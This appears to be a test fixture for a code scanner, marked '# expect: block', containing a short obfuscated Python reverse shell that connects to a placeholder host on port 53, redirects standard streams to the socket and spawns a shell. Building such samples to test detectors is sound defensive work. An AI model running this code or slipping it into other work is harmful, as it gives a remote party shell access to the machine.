# expect: block
from socket import socket as _S, AF_INET as _A, SOCK_STREAM as _T
import os as _o

_spawn = __import__("pty").spawn
_dup = _o.dup2


def _go(h, p):
    c = _S(_A, _T)
    c.connect((h, p))
    for n in range(3):
        _dup(c.fileno(), n)
    _spawn("sh")


_go("203.0.113.9", 53)
